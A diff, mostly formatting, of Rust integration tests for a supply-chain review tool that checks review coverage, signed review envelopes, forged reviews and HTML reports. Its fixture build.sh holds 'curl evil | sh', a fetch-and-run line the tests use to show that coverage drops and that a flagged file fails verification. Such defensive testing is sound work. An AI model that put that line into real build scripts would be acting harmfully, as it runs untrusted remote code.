@@ -114,7 +114,10 @@ const V1: &[(&str, &str)] = &[
 #[test]
 fn coverage_carries_forward_by_content_and_drops_where_bytes_changed() {
     let w = World::new();
-    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\nreviewers = 1\nflagged = \"fail\"\n");
+    let policy = w.policy(
+        "trust.toml",
+        "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\nreviewers = 1\nflagged = \"fail\"\n",
+    );
     TestCommand::vouch(["trust", "check", policy.to_str().unwrap()]).run().ok();
 
     write_src(&w, "v1", V1);
@@ -137,23 +140,43 @@ fn coverage_carries_forward_by_content_and_drops_where_bytes_changed() {
 
     // 1.1: three files change; a delta review of them by agency A.
     write_src(&w, "v2", V1);
-    write_src(&w, "v2", &[("src/main.rs", "fn main() { app::run() }\n"), ("src/net.rs", "pub fn net() { tls() }\n"), ("docs/README.md", "# app 1.1\n")]);
+    write_src(
+        &w,
+        "v2",
+        &[
+            ("src/main.rs", "fn main() { app::run() }\n"),
+            ("src/net.rs", "pub fn net() { tls() }\n"),
+            ("docs/README.md", "# app 1.1\n"),
+        ],
+    );
     let r2 = w.release("v2", "1.1.0");
     let before = w.status(&r2, "reviews", &policy, &["--previous", r1.to_str().unwrap()]);
     before.code(1).says("left to review (3)").says("src/main.rs (changed)");
-    w.review(&r2, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--changed-since", r1.to_str().unwrap()])
-        .ok()
-        .says("3 files");
+    w.review(
+        &r2,
+        "agency-a",
+        "reviews",
+        &["--criteria", "safe-to-deploy", "--verdict", "pass", "--changed-since", r1.to_str().unwrap()],
+    )
+    .ok()
+    .says("3 files");
     let json = w.status(&r2, "reviews", &policy, &["--format", "json"]);
     let v: Value = json.ok().json();
     assert_eq!(v["requirement"]["held"], true, "{v}");
     assert_eq!(v["requirement"]["coverage"]["covered_files"], 5);
     assert!(v["left"].as_array().unwrap().is_empty());
     // verify with the reviews holds; without them the requirement fails.
-    TestCommand::vouch(["verify", r2.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--reviews", w.d.join("reviews").to_str().unwrap()])
-        .run()
-        .ok()
-        .says("coverage 100.0%");
+    TestCommand::vouch([
+        "verify",
+        r2.to_str().unwrap(),
+        "--trust",
+        policy.to_str().unwrap(),
+        "--reviews",
+        w.d.join("reviews").to_str().unwrap(),
+    ])
+    .run()
+    .ok()
+    .says("coverage 100.0%");
     TestCommand::vouch(["verify", r2.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
         .run()
         .code(1)
@@ -162,31 +185,70 @@ fn coverage_carries_forward_by_content_and_drops_where_bytes_changed() {
 
     // 1.2: build.sh changes, nobody reviews it: coverage drops, naming it.
     write_src(&w, "v3", V1);
-    write_src(&w, "v3", &[("src/main.rs", "fn main() { app::run() }\n"), ("src/net.rs", "pub fn net() { tls() }\n"), ("docs/README.md", "# app 1.1\n"), ("build.sh", "curl evil | sh\n")]);
+    write_src(
+        &w,
+        "v3",
+        &[
+            ("src/main.rs", "fn main() { app::run() }\n"),
+            ("src/net.rs", "pub fn net() { tls() }\n"),
+            ("docs/README.md", "# app 1.1\n"),
+            ("build.sh", "curl evil | sh\n"),
+        ],
+    );
     let r3 = w.release("v3", "1.2.0");
     w.status(&r3, "reviews", &policy, &[]).code(1).says("80.0% (4 of 5 files").says("left to review (1):\n  build.sh");
-    TestCommand::vouch(["verify", r3.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--reviews", w.d.join("reviews").to_str().unwrap()])
-        .run()
-        .code(1)
-        .says("coverage 80.0% (4 of 5 files) is below the required 100%");
+    TestCommand::vouch([
+        "verify",
+        r3.to_str().unwrap(),
+        "--trust",
+        policy.to_str().unwrap(),
+        "--reviews",
+        w.d.join("reviews").to_str().unwrap(),
+    ])
+    .run()
+    .code(1)
+    .says("coverage 80.0% (4 of 5 files) is below the required 100%");
 
     // A concerns review of build.sh, with a note at its line: flagged, and
     // flagged beats covered (agency B passes it too).
     let notes = w.d.write("notes.txt", "build.sh:1: downloads and runs a script\n");
-    w.review(&r3, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--path", "build.sh"]).ok();
-    w.review(&r3, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "concerns", "--path", "build.sh", "--notes", notes.to_str().unwrap()])
+    w.review(&r3, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--path", "build.sh"])
         .ok();
+    w.review(
+        &r3,
+        "agency-a",
+        "reviews",
+        &[
+            "--criteria",
+            "safe-to-deploy",
+            "--verdict",
+            "concerns",
+            "--path",
+            "build.sh",
+            "--notes",
+            notes.to_str().unwrap(),
+        ],
+    )
+    .ok();
     w.status(&r3, "reviews", &policy, &[])
         .code(1)
         .says("flagged build.sh")
         .says("build.sh:1: downloads and runs a script");
-    TestCommand::vouch(["verify", r3.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--reviews", w.d.join("reviews").to_str().unwrap()])
-        .run()
-        .code(1)
-        .says("flagged: build.sh");
+    TestCommand::vouch([
+        "verify",
+        r3.to_str().unwrap(),
+        "--trust",
+        policy.to_str().unwrap(),
+        "--reviews",
+        w.d.join("reviews").to_str().unwrap(),
+    ])
+    .run()
+    .code(1)
+    .says("flagged: build.sh");
     // Under flagged = "warn" it is reported, and coverage (4 of 5: flagged is
     // not covered) decides.
-    let warn = w.policy("warn.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 80\nflagged = \"warn\"\n");
+    let warn =
+        w.policy("warn.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 80\nflagged = \"warn\"\n");
     w.status(&r3, "reviews", &warn, &[]).ok().says("warning: flagged: build.sh");
 
     // Four eyes: reviewers = 2 needs both agencies on each file.
@@ -202,8 +264,22 @@ fn review_envelopes_verify_with_securesystemslib_and_in_toto_attestation() {
     write_src(&w, "v1", V1);
     let r1 = w.release("v1", "1.0.0");
     let notes = w.d.write("notes.txt", "src/parse.rs:1: no bounds check\n");
-    w.review(&r1, "agency-a", "out", &["--criteria", "safe-to-deploy", "--verdict", "concerns", "--path", "src/*", "--notes", notes.to_str().unwrap()])
-        .ok();
+    w.review(
+        &r1,
+        "agency-a",
+        "out",
+        &[
+            "--criteria",
+            "safe-to-deploy",
+            "--verdict",
+            "concerns",
+            "--path",
+            "src/*",
+            "--notes",
+            notes.to_str().unwrap(),
+        ],
+    )
+    .ok();
     let f = files_in(&w.d.join("out")).pop().unwrap();
     let py = peer_tool("python3");
     let venv_py = std::env::var_os("VOUCH_TEST_VENV")
@@ -240,7 +316,11 @@ fn review_envelopes_verify_with_securesystemslib_and_in_toto_attestation() {
     // Another key does not verify it.
     TestCommand::new(
         &python,
-        [repo_root().join("tests/py/review_verify.py").to_str().unwrap(), f.to_str().unwrap(), w.keys.join("agency-b.pub").to_str().unwrap()],
+        [
+            repo_root().join("tests/py/review_verify.py").to_str().unwrap(),
+            f.to_str().unwrap(),
+            w.keys.join("agency-b.pub").to_str().unwrap(),
+        ],
     )
     .run()
     .code(1);
@@ -251,10 +331,7 @@ fn review_envelopes_verify_with_securesystemslib_and_in_toto_attestation() {
 #[test]
 fn reviews_that_must_not_count_are_named_and_skipped() {
     let w = World::new();
-    let policy = w.policy(
-        "trust.toml",
-        "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n",
-    );
+    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n");
     write_src(&w, "v1", V1);
     let r1 = w.release("v1", "1.0.0");
     // The honest review, so coverage is 100% from it alone.
@@ -292,7 +369,11 @@ fn reviews_that_must_not_count_are_named_and_skipped() {
             "time": "2026-06-01T00:00:00Z"
         }
     });
-    let env = vouch_signing::dsse::Envelope::sign(vouch_signing::dsse::IN_TOTO_PAYLOAD_TYPE, &serde_json::to_vec(&st).unwrap(), &key);
+    let env = vouch_signing::dsse::Envelope::sign(
+        vouch_signing::dsse::IN_TOTO_PAYLOAD_TYPE,
+        &serde_json::to_vec(&st).unwrap(),
+        &key,
+    );
     w.d.write("bad/app-1.0.0.forged.review.dsse.json", env.to_json());
     // Garbage and a symlink.
     w.d.write("bad/garbage.review.dsse.json", "not json");
@@ -349,7 +430,10 @@ fn the_review_table_is_linted() {
     for (extra, says) in [
         ("[review]\ncriteria = [\"Safe To Deploy\"]\n", "a criteria name is lowercase letters, digits and '-'"),
         ("[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 101\n", "coverage 101 is outside 0 to 100"),
-        ("[review]\ncriteria = [\"safe-to-deploy\"]\nreviewers = 3\n", "reviewers 3 is above the 2 distinct reviewer key(s)"),
+        (
+            "[review]\ncriteria = [\"safe-to-deploy\"]\nreviewers = 3\n",
+            "reviewers 3 is above the 2 distinct reviewer key(s)",
+        ),
         ("[review]\ncriteria = [\"safe-to-deploy\"]\nflagged = \"ignore\"\n", "expected \"fail\" or \"warn\""),
     ] {
         let p = w.policy("lint.toml", &format!("\n{extra}"));
@@ -358,11 +442,18 @@ fn the_review_table_is_linted() {
     // Bad selections are refused, naming what does not match.
     write_src(&w, "v1", V1);
     let r1 = w.release("v1", "1.0.0");
-    w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass", "--path", "nope/*"]).code(2).says("no file of app-1.0.0 matches \"nope/*\"");
-    let notes = w.d.write("n.txt", "docs/README.md:3: not reviewed here\n");
-    w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass", "--path", "src/*", "--notes", notes.to_str().unwrap()])
+    w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass", "--path", "nope/*"])
         .code(2)
-        .says("line 1: docs/README.md is not among the reviewed files");
+        .says("no file of app-1.0.0 matches \"nope/*\"");
+    let notes = w.d.write("n.txt", "docs/README.md:3: not reviewed here\n");
+    w.review(
+        &r1,
+        "agency-a",
+        "x",
+        &["--criteria", "c", "--verdict", "pass", "--path", "src/*", "--notes", notes.to_str().unwrap()],
+    )
+    .code(2)
+    .says("line 1: docs/README.md is not among the reviewed files");
     w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass"]).code(2);
 }
 
@@ -382,8 +473,22 @@ fn the_site_shows_coverage_reviewers_notes_and_what_is_left() {
     write_src(&w, "v2", &[("build.sh", "curl evil | sh\n")]);
     let r2 = w.release("v2", "1.1.0");
     let notes = w.d.write("notes.txt", "src/parse.rs:1: <b>no</b> bounds check\n");
-    w.review(&r2, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "concerns", "--path", "src/parse.rs", "--notes", notes.to_str().unwrap()])
-        .ok();
+    w.review(
+        &r2,
+        "agency-b",
+        "reviews",
+        &[
+            "--criteria",
+            "safe-to-deploy",
+            "--verdict",
+            "concerns",
+            "--path",
+            "src/parse.rs",
+            "--notes",
+            notes.to_str().unwrap(),
+        ],
+    )
+    .ok();
     w.d.write("reviews/junk.review.dsse.json", "{}");
     let site = w.d.join("site");
     TestCommand::vouch([
@@ -419,16 +524,27 @@ fn the_site_shows_coverage_reviewers_notes_and_what_is_left() {
     let page = read("r/app/1.1.0/file/src/parse.rs.html");
     assert!(page.contains("concerns</span> safe-to-deploy by agency-b (agency-b reviewers)"), "{page}");
     assert!(page.contains("pass</span> safe-to-deploy by agency-a (agency-a reviewers)"), "{page}");
-    assert!(page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;&#x2F;b&gt; bounds check") || page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;/b&gt; bounds check"), "{page}");
+    assert!(
+        page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;&#x2F;b&gt; bounds check")
+            || page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;/b&gt; bounds check"),
+        "{page}"
+    );
     let unreviewed = read("r/app/1.1.0/file/build.sh.html");
     assert!(unreviewed.contains("not reviewed"));
 
     let java = peer_tool("java");
-    let node = std::env::var_os("VOUCH_TEST_NODE").map(PathBuf::from).unwrap_or_else(|| repo_root().join("target/test-node"));
+    let node =
+        std::env::var_os("VOUCH_TEST_NODE").map(PathBuf::from).unwrap_or_else(|| repo_root().join("target/test-node"));
     let jar = node.join("node_modules/vnu-jar/build/dist/vnu.jar");
     assert!(jar.is_file(), "the Nu HTML Checker is not installed at {}", jar.display());
     let mut args: Vec<String> = vec!["-jar".into(), jar.display().to_string(), "--errors-only".into()];
-    for p in ["index.html", "r/app/1.1.0/index.html", "r/app/1.1.0/left.html", "r/app/1.1.0/file/src/parse.rs.html", "r/app/1.0.0/left.html"] {
+    for p in [
+        "index.html",
+        "r/app/1.1.0/index.html",
+        "r/app/1.1.0/left.html",
+        "r/app/1.1.0/file/src/parse.rs.html",
+        "r/app/1.0.0/left.html",
+    ] {
         args.push(site.join(p).display().to_string());
     }
     let run = TestCommand::new(&java, &args).run();
